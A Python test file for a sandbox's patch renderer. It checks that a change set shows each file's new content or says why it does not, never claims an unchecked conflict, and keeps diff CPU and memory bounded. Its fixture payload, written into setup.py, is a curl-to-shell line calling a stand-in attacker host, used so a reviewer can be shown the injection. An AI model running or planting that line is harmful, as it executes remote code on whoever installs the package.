"""What a change set's patch shows of each file, and what it costs (sandbox/patch.py, decision 81): every
file's new content shown or said not to be, no conflict claimed that was not checked, the diff's CPU and
memory bounded for any shape of lines, and a set over a cap not rendered. Real copies in a real tmpfs;
the costs measured in a subprocess by its own rusage, never by the wall clock."""

from __future__ import annotations

import hashlib
import json
import random
import re
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from sandbox.change_set import Action, Change, ChangeRules, ChangeSet
from sandbox.patch import NotShown, not_shown, render_patch
from sandbox.workspace_copy import Kind
from tests.sandbox.confined_child import requires_root
from tests.sandbox.test_workspace_changes import changes_of, copied, workspace

ROOT_DIR = Path(__file__).resolve().parents[2]
SETUP = b"from setuptools import setup\nsetup(name='x')\n"
PAYLOAD = b"import os; os.system('curl evil.example | sh')\n"


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def modified(path: str, before: bytes | None, after: bytes, size_before: int | None = None) -> Change:
    size = len(before) if before is not None else size_before
    return Change(
        path, Action.MODIFIED, Kind.FILE, _sha(before or b"?"), _sha(after), size, len(after), 0o644, 0o644, after, before
    )  # fmt: skip


@requires_root
def test_a_binary_file_next_to_a_text_one_leaves_the_text_ones_diff_whole(tmp_path: Path) -> None:
    """The review's reproduction: a 16 MiB binary shrunk took the shared budget for earlier content, so
    setup.py's payload was in no view of the set and the patch said applying it "would conflict"."""
    files = {"a_data.sqlite": b"SQLite format 3\0" + bytes(16 * 2**20 - 16), "setup.py": SETUP}
    with workspace(tmp_path, files) as ws, copied(ws) as (view, originals, copy):
        (copy / "a_data.sqlite").write_bytes(b"SQLite format 3\0" + bytes(100))
        (copy / "setup.py").write_bytes(PAYLOAD + SETUP)
        changes = changes_of(view, originals, ws)
    patch = render_patch(changes)
    assert "+import os; os.system('curl evil.example | sh')" in patch
    assert " from setuptools import setup" in patch  # the diff, its earlier content read
    assert "conflict" not in patch
    assert [not_shown(c) for c in changes.changes] == [NotShown.BINARY, None]


@requires_root
def test_a_file_whose_earlier_content_was_not_read_shows_its_new_content_whole(tmp_path: Path) -> None:
    files = {"big.txt": b"x = 1\n" * 400, "setup.py": SETUP}
    with workspace(tmp_path, files) as ws, copied(ws) as (view, originals, copy):
        (copy / "big.txt").write_bytes(PAYLOAD)
        (copy / "setup.py").write_bytes(PAYLOAD + SETUP)
        changes = changes_of(view, originals, ws, ChangeRules(max_bytes=1000))  # big.txt's 2,400 bytes: not read
    patch = render_patch(changes)
    big = patch[patch.index("# modified file big.txt") : patch.index("# modified file setup.py")]
    assert "# NOT SHOWN: its earlier content (2,400 bytes) was not read for this patch; its new content whole:" in big
    assert "@@ -0,0 +1 @@\n+import os; os.system('curl evil.example | sh')" in big
    assert "conflict" not in patch
    assert {c.path: not_shown(c) for c in changes.changes} == {"big.txt": NotShown.EARLIER_NOT_READ, "setup.py": None}


@requires_root
def test_a_file_changed_in_the_workspace_during_the_run_is_shown_not_called_a_conflict(tmp_path: Path) -> None:
    with workspace(tmp_path, {"a.py": b"a = 1\n"}) as ws, copied(ws) as (view, originals, copy):
        (copy / "a.py").write_bytes(PAYLOAD)
        Path(f"/proc/self/fd/{ws.fd}/a.py").write_bytes(b"a = 2\n")  # a person's edit meanwhile
        changes = changes_of(view, originals, ws)
    patch = render_patch(changes)
    assert "+import os; os.system" in patch and "conflict" not in patch
    assert not_shown(changes.changes[0]) is NotShown.EARLIER_NOT_READ


@pytest.mark.parametrize(
    ("change", "missing", "shows"),
    [
        (modified("a.py", b"a\n", b"b\n"), None, "-a\n+b"),
        (modified("a.py", None, b"b\n", 9), NotShown.EARLIER_NOT_READ, "@@ -0,0 +1 @@\n+b"),
        (modified("a.bin", b"\0old", b"\0new"), NotShown.BINARY, "# binary file, 4 bytes -> 4 bytes"),
        (modified("a.txt", b"\0old", b"new\n"), NotShown.BINARY, "(4 bytes) is binary; its new content whole:\n"),
        (modified("a.bin", b"old\n", b"\0new"), NotShown.BINARY, "# binary file, 4 bytes -> 4 bytes"),
        (
            Change("gone.txt", Action.DELETED, Kind.FILE, _sha(b"x"), None, 7, None, 0o644, None),
            NotShown.EARLIER_NOT_READ,
            "# deleted file, 7 bytes -> 0 bytes; NOT SHOWN: its content was not read for this patch",
        ),
    ],
    ids=["diff", "earlier not read", "binary", "binary before text", "text before binary", "deleted unread"],
)
def test_what_is_not_shown_is_said_and_named(change: Change, missing: NotShown | None, shows: str) -> None:
    assert not_shown(change) is missing
    assert shows in render_patch(ChangeSet((change,), ()))


def _applied(before: str, patch: str) -> str:
    """`before` with the patch's one file's hunks applied, as `patch` would (the test's own reader)."""
    old, out, at = before.splitlines(keepends=True), [], 0
    for hunk in re.split(r"^@@ ", patch, flags=re.M)[1:]:
        head, _, body = hunk.partition("\n")
        start = int(head.split()[0][1:].split(",")[0])
        count = int(head.split()[0].split(",")[1]) if "," in head.split()[0] else 1
        begin = start - 1 if count else start
        out += old[at:begin]
        at = begin
        for line in body.splitlines(keepends=True):
            if line.startswith(("#", "\\")):
                continue
            if line.startswith((" ", "-")):
                at += 1
            if line.startswith((" ", "+")):
                out.append(line[1:])
    return "".join(out + old[at:])


SHAPES = {
    "one line changed in 5,000": (
        "".join(f"line {n}\n" for n in range(5000)),
        "".join(f"line {n}\n" if n != 2500 else "changed\n" for n in range(5000)),
    ),
    "popular lines, longer first": (
        "".join(f"{n % 2}\n" for n in range(2000)),
        "".join(f"{n % 3}\n" for n in range(199)),
    ),
    "popular lines, shorter first": (
        "".join(f"{n % 3}\n" for n in range(199)),
        "".join(f"{n % 2}\n" for n in range(1000)),
    ),
    "edits at both ends": ("a\nb\nc\n" + "x\n" * 50 + "d\n", "A\nb\nc\n" + "x\n" * 50 + "D\n"),
    "shared start and end": ("s\n" * 10 + "old\n" + "e\n" * 10, "s\n" * 10 + "new\nnewer\n" + "e\n" * 10),
}


@pytest.mark.parametrize("name", SHAPES)
def test_the_diff_rebuilds_the_new_version_from_the_earlier_one(name: str) -> None:
    before, after = SHAPES[name]
    patch = render_patch(ChangeSet((modified("f.txt", before.encode(), after.encode()),), ()))
    assert "too many to compare" not in patch
    assert _applied(before, patch) == after


_COST = textwrap.dedent(
    """
    import hashlib, json, resource, sys
    resource.setrlimit(resource.RLIMIT_CPU, (120, 120))
    from sandbox.change_set import Action, Change, ChangeSet, TooLarge
    from sandbox.patch import render_patch
    from sandbox.workspace_copy import Kind

    def change(i, before, after):
        sha = lambda b: hashlib.sha256(b).hexdigest()
        return Change(f"f{i}.txt", Action.MODIFIED, Kind.FILE, sha(before), sha(after), len(before), len(after),
                      0o644, 0o644, after, before)

    def lines(n, f):
        return "".join(f"{f(i)}\\n" for i in range(n)).encode()

    shape, count = sys.argv[1], int(sys.argv[2])
    made = {
        "near-popular": lambda i: (lines(10000, lambda j: j % 101), lines(10000, lambda j: (j * 7 + 3) % 101)),
        "asymmetric": lambda i: (lines(2000, lambda j: j % 2), lines(199, lambda j: j % 3)),
        "small": lambda i: (lines(199, lambda j: j % 2), lines(199, lambda j: (j * 7) % 3)),
        "huge": lambda i: (b"a\\n" * (8 << 20), b"b\\n" + b"a\\n" * ((8 << 20) - 1)),
    }[shape]
    changes = tuple(change(i, *made(i)) for i in range(count))
    too_large = TooLarge.BYTES if len(sys.argv) > 3 else None
    start = resource.getrusage(resource.RUSAGE_SELF)
    patch = render_patch(ChangeSet(changes, (), too_large))
    end = resource.getrusage(resource.RUSAGE_SELF)
    cpu = end.ru_utime + end.ru_stime - start.ru_utime - start.ru_stime
    print(json.dumps({"cpu_s": cpu, "peak_rss_mib": end.ru_maxrss >> 10, "patch_chars": len(patch)}))
    """
)


def _cost(*argv: str) -> dict[str, float]:
    done = subprocess.run(
        [sys.executable, "-c", _COST, *argv], cwd=ROOT_DIR, capture_output=True, text=True, timeout=600, check=False
    )
    assert done.returncode == 0, done.stderr[-2000:]  # killed by its CPU limit: the diff was not bounded
    result: dict[str, float] = json.loads(done.stdout)
    return result


@pytest.mark.parametrize(
    ("shape", "count"),
    [("near-popular", 20), ("asymmetric", 40), ("small", 1000)],
)
def test_the_diff_of_a_set_costs_bounded_cpu_whatever_the_shape_of_its_lines(shape: str, count: int) -> None:
    """The review's shape: 10,000 lines each just under difflib's popular-line bound cost 14.7 s of CPU a
    file (~280 such files fit the cap: over an hour). Now a few seconds a set at most, whatever the shape."""
    assert _cost(shape, str(count))["cpu_s"] < 20


def test_the_diff_of_a_huge_file_costs_memory_in_proportion() -> None:
    """16 MiB of 2-byte lines before and after: 15 s of CPU and +3.6 GiB RSS through difflib; shown whole now."""
    cost = _cost("huge", "1")
    assert cost["cpu_s"] < 20 and cost["peak_rss_mib"] < 1024


def test_a_set_over_a_cap_is_listed_not_rendered() -> None:
    cost = _cost("near-popular", "20", "too_large")
    assert cost["cpu_s"] < 5 and cost["patch_chars"] < 10_000


def test_random_small_alphabet_pairs_rebuild_exactly() -> None:
    """The longer version given second and the shared ends set aside change no diff's meaning."""
    chance = random.Random(28)  # noqa: S311  (a fixed seed for shapes of lines, nothing secret)
    for _ in range(300):
        sizes = [chance.choice((0, 1, 5, 60, 199, 200, 450)) for _ in range(2)]
        alphabet = chance.choice((1, 2, 3, 26))
        before, after = ("".join(f"{chance.randrange(alphabet)}\n" for _ in range(size)) for size in sizes)
        if before and after and before != after:
            patch = render_patch(ChangeSet((modified("f.txt", before.encode(), after.encode()),), ()))
            assert _applied(before, patch) == after, (sizes, alphabet)
